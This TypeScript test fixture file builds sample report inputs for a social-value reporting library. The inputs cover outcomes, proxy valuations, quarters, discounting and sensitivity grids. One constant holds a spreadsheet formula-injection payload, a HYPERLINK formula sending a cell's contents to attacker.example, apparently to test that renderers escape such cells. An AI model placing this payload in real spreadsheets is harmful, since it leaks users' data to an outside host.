import type {
  QuarterDelivery,
  ReportInputs,
  ReportOutcomeInput,
  ReportProxyVersion,
  StatusTotals,
} from '../inputs';

/** Test fixtures for report scenarios (not part of the library's surface). */

export const Q1 = { label: '2026-27 Q1', start: '2026-04-01', end: '2026-06-30' };
export const Q2 = { label: '2026-27 Q2', start: '2026-07-01', end: '2026-09-30' };

const totals = (
  entry?: [sum: string, count: number, latest?: string, at?: string],
): StatusTotals =>
  entry
    ? { count: entry[1], sum: entry[0], latest: entry[2] ?? null, latestAt: entry[3] ?? null }
    : { count: 0, sum: '0', latest: null, latestAt: null };

/** A quarter's delivery: [sum, entries, latest?, latestAt?] per review status. */
export function quarter(
  by: Partial<Record<keyof QuarterDelivery, [string, number, string?, string?]>> = {},
): QuarterDelivery {
  return {
    verified: totals(by.verified),
    claimed: totals(by.claimed),
    disputed: totals(by.disputed),
  };
}

/** A proxy version in 2026 prices (the report year of a 2026-27 window) unless `more` says. */
export function proxyVersion(
  id: string,
  valuePerUnit: string,
  more: Partial<ReportProxyVersion> = {},
): ReportProxyVersion {
  return {
    versionId: id,
    source: 'library',
    code: 'PROXY',
    valuePerUnit,
    priceYear: 2026,
    deadweight: '0.0000',
    attribution: '0.0000',
    displacement: '0.0000',
    dropOff: '0.0000',
    durationYears: 1,
    ...more,
  };
}

export function outcome(
  o: Partial<ReportOutcomeInput> & Pick<ReportOutcomeInput, 'id' | 'code'>,
): ReportOutcomeInput {
  return {
    title: o.code,
    theme: 'Jobs',
    unit: 'people',
    direction: 'increase',
    aggregation: 'sum',
    stakeholder: null,
    parentId: null,
    isPrevention: false,
    baseline: null,
    valueDisbenefits: true,
    greenThreshold: '1',
    amberThreshold: '0.9',
    valuation: null,
    targets: [],
    delivery: [],
    providers: [],
    expectedProviders: [],
    ...o,
  };
}

/** A quarter report (2026-27 Q1) or a two-quarter year to date, no discounting, no investment. */
export function inputsOf(
  outcomes: ReportOutcomeInput[],
  more: Partial<ReportInputs> & { countUnverified?: boolean } = {},
): ReportInputs {
  const { countUnverified = true, ...rest } = more;
  return {
    status: 'final',
    partnership: {
      id: 'p',
      name: 'Scenario',
      currency: 'GBP',
      fyStartMonth: 4,
      startDate: '2026-04-01',
      endDate: '2031-03-31',
      discountRate: '0.0000',
      discountConvention: 'none',
      discountSchedule: 'constant',
      paybackMethod: 'sroi_guide',
      contractValue: null,
      countUnverified,
      reportPriceYear: null,
    },
    window: { scope: 'quarter', label: Q1.label, start: Q1.start, end: Q1.end },
    quarters: [Q1],
    trend: [],
    outcomes,
    book: { cost: '0', returns: 0 },
    priceIndex: { series: null, values: [] },
    sensitivity: { cases: [], grid: null },
    ...rest,
  };
}

/** The quarter before {@link Q1}: the trend's. */
export const Q4_BEFORE = { label: '2025-26 Q4', start: '2026-01-01', end: '2026-03-31' };

/** Ids of the rich report's outcomes and provider: UUIDs, as stored, so a test can look for them. */
export const RICH_IDS = {
  partnership: '0b9f3c9e-1d2a-4c55-9e51-6a7f00000001',
  jobs: '0b9f3c9e-1d2a-4c55-9e51-6a7f00000002',
  sustained: '0b9f3c9e-1d2a-4c55-9e51-6a7f00000003',
  ae: '0b9f3c9e-1d2a-4c55-9e51-6a7f00000004',
  well: '0b9f3c9e-1d2a-4c55-9e51-6a7f00000005',
  wellUp: '0b9f3c9e-1d2a-4c55-9e51-6a7f00000006',
  note: '0b9f3c9e-1d2a-4c55-9e51-6a7f00000007',
  missing: '0b9f3c9e-1d2a-4c55-9e51-6a7f00000008',
  provider: '0b9f3c9e-1d2a-4c55-9e51-6a7f00000009',
} as const;

/** A title a spreadsheet would run as a formula if written as is. */
export const FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")';

/**
 * A report with something of everything, for renderers (2026-27 Q1, one trend quarter before it,
 * Green Book discounting, an open book of £50,000):
 * - JOBS, people into work (achieved), with deductions, drop-off and three years; verified,
 *   claimed and disputed delivery; a target; and a child outcome JOBS-12M (not monetised);
 * - AE, A&E attendances (a decrease, baseline 400): 430 happened, a disbenefit of −30 valued at
 *   −£5,323.80 before discounting;
 * - WELL, a wellbeing score (a mean of 24,586 responses: 7.19998…) valued through WELL-UP;
 * - NOTE, titled like a spreadsheet formula, with text cells starting `@`, `-` and `+`;
 * - GAP, without data in the quarter, owed by a provider.
 */
export function richReportInputs(): ReportInputs {
  const id = RICH_IDS;
  const target = (value: string) => [
    { id: 't', periodKind: 'quarter' as const, periodStart: Q1.start, periodEnd: Q1.end, value },
  ];
  return {
    ...inputsOf([
      outcome({
        id: id.jobs,
        code: 'JOBS',
        title: 'People into work',
        valuation: {
          basis: 'achieved',
          countOutcomeId: null,
          proxies: [
            proxyVersion('v-emp', '10000.0000', {
              code: 'EMP',
              deadweight: '0.2000',
              displacement: '0.0500',
              attribution: '0.1000',
              dropOff: '0.1000',
              durationYears: 3,
            }),
          ],
        },
        targets: target('50'),
        delivery: [
          quarter({ verified: ['31', 31] }),
          quarter({ verified: ['40', 40], claimed: ['4.5', 2], disputed: ['3', 3] }),
        ],
        providers: [
          { id: id.provider, name: 'Acorn Care', window: [{ verified: '40', claimed: '4.5' }] },
        ],
      }),
      outcome({
        id: id.sustained,
        code: 'JOBS-12M',
        title: 'Still in work after 12 months',
        parentId: id.jobs,
        delivery: [quarter({ verified: ['12', 12] }), quarter({ verified: ['20', 20] })],
      }),
      outcome({
        id: id.ae,
        code: 'AE',
        title: 'A&E attendances',
        theme: 'Health',
        unit: 'attendances',
        direction: 'decrease',
        baseline: '400',
        valuation: {
          basis: 'avoided',
          countOutcomeId: null,
          proxies: [proxyVersion('v-ae', '177.4600', { code: 'AE-ATT' })],
        },
        targets: target('360'),
        delivery: [quarter({ verified: ['380', 380] }), quarter({ verified: ['430', 430] })],
      }),
      outcome({
        id: id.well,
        code: 'WELL',
        title: 'Wellbeing score',
        theme: 'Health',
        unit: 'points',
        aggregation: 'mean',
        valuation: {
          basis: 'count_outcome',
          countOutcomeId: id.wellUp,
          proxies: [
            proxyVersion('v-well', '500.0000', { code: 'WELLBEING', deadweight: '0.3000' }),
          ],
        },
        delivery: [
          quarter({ verified: ['70000', 10000] }),
          quarter({ verified: ['177019.15', 24586] }),
        ],
      }),
      outcome({
        id: id.wellUp,
        code: 'WELL-UP',
        title: 'Residents whose score improved by at least 2 points',
        theme: 'Health',
        delivery: [quarter({ verified: ['1500', 1500] }), quarter({ verified: ['1850', 1850] })],
      }),
      outcome({
        id: id.note,
        code: 'NOTE',
        title: FORMULA_TITLE,
        theme: '@risk',
        unit: '-units',
        delivery: [quarter(), quarter({ verified: ['3', 3] })],
      }),
      outcome({
        id: id.missing,
        code: 'GAP',
        title: 'Carers supported',
        theme: 'Care',
        unit: 'carers',
        targets: target('25'),
        delivery: [quarter({ verified: ['20', 20] }), quarter()],
        expectedProviders: [{ id: id.provider, name: 'Acorn Care' }],
      }),
    ]),
    partnership: {
      ...inputsOf([]).partnership,
      id: id.partnership,
      name: 'Riverside Alliance',
      discountRate: '0.0350',
      discountConvention: 'end_of_year',
    },
    trend: [Q4_BEFORE],
    book: { cost: '50000.00', returns: 1 },
  };
}

/** Ids the full report adds to {@link RICH_IDS}: UUIDs, as stored. */
export const FULL_IDS = {
  mission: '0b9f3c9e-1d2a-4c55-9e51-6a7f0000000a',
  vol: '0b9f3c9e-1d2a-4c55-9e51-6a7f0000000b',
  series: '0b9f3c9e-1d2a-4c55-9e51-6a7f0000000c',
} as const;

/**
 * The rich report with what method 3 adds: MISSION (no data of its own) rolls up JOBS and AE,
 * JOBS names Residents and AE the NHS, EMP is priced in 2023 and uprated to the report's 2026
 * prices, VOL's proxy is priced in 2019 (the series has no 2019 index: not uprated, a warning),
 * and the partnership has its own sensitivity case and a two-way grid.
 */
export function fullReportInputs(): ReportInputs {
  const rich = richReportInputs();
  const outcomes = rich.outcomes.map((o) => {
    if (o.id === RICH_IDS.jobs) {
      const proxies = o.valuation!.proxies.map((p) => p && { ...p, priceYear: 2023 });
      return {
        ...o,
        parentId: FULL_IDS.mission,
        stakeholder: 'Residents',
        valuation: { ...o.valuation!, proxies },
      };
    }
    if (o.id === RICH_IDS.ae) return { ...o, parentId: FULL_IDS.mission, stakeholder: 'NHS' };
    return o;
  });
  return {
    ...rich,
    outcomes: [
      outcome({
        id: FULL_IDS.mission,
        code: 'MISSION',
        title: 'A healthier, working borough',
        delivery: [quarter(), quarter()],
      }),
      ...outcomes,
      outcome({
        id: FULL_IDS.vol,
        code: 'VOL',
        title: 'Volunteers',
        theme: 'Community',
        unit: 'volunteers',
        stakeholder: 'Residents',
        valuation: {
          basis: 'achieved',
          countOutcomeId: null,
          proxies: [proxyVersion('v-vol', '300.0000', { code: 'VOLP', priceYear: 2019 })],
        },
        delivery: [quarter(), quarter({ verified: ['6', 6] })],
      }),
    ],
    partnership: { ...rich.partnership, reportPriceYear: 2026 },
    priceIndex: {
      series: { id: FULL_IDS.series, code: 'GDPD', name: 'GDP deflator (illustrative)' },
      values: [
        { year: 2023, value: '104.8' },
        { year: 2026, value: '112.3' },
      ],
    },
    sensitivity: {
      cases: [{ parameter: 'deadweight', change: '0.15' }],
      grid: {
        rows: { parameter: 'deadweight', changes: ['-0.1', '0', '0.1'] },
        columns: { parameter: 'proxyValue', changes: ['-0.2', '0', '0.2'] },
      },
    },
  };
}
